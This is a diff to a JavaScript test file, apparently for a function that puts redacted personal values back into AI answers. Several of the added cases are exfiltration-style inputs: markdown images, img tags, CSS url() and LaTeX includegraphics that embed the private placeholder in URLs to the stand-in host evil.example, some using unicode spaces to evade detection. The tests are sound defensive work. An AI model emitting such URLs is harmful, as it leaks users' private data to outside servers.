@@ -59,6 +59,17 @@ describe('an answer', () => {
     `<a href=?q=${P}>`,
     `[x](javascript:a+${P})`,
     `@import "//evil.example/?a= ${P}";`,
+    `see https://evil.example/?q='${P}' or https://evil.example/?q="${P}"`,
+    `![x](https://evil.example/?q='${P}')`,
+    `![x](https://evil.example/?u="https://nih.gov"${P})`,
+    `<img src=https://evil.example/?q='${P}>`,
+    `<img src=https://evil.example/?q=<${P}>`,
+    `![x](https://evil.example/?q=\u00a0${P})`,
+    `![x](https://evil.example/?q=\u2003${P})`,
+    `![x](  //evil.example/${P})`,
+    `url( //evil.example/${P} )`,
+    `\\includegraphics{//evil.example/${P}}`,
+    `![x](evil.example/?q='${P}')`,
   ])('keeps the placeholder in %s, however it is cut', (text) => {
     expect(restored(text)).toBe(text);
     for (const cut of [1, 2, 7]) expect(restored(text, cut)).toBe(text);
@@ -83,6 +94,11 @@ describe('an answer', () => {
     `mailto:${P}, Tel:${P}, ${P}:${P}/${P}?`,
     `${P}...\n${P}.\n${P}.`,
     `${P}.a`,
+    `{"link":"https://nih.gov","by":'${P}',"name":"${P}"}`,
+    `fetch('https://nih.gov/a','${P}')`,
+    `\`https://nih.gov/a\`:${P}`,
+    `{"text":"see https://nih.gov","name":"${P}","b":"nih.gov/x","c":["${P}"]}`,
+    `see https://nih.gov/a\u00a0: ${P}`,
   ])('has the original everywhere else: %s', (text) => {
     expect(restored(text)).toBe(text.replaceAll(P, 'Jane'));
     expect(restored(text, 1)).toBe(text.replaceAll(P, 'Jane'));
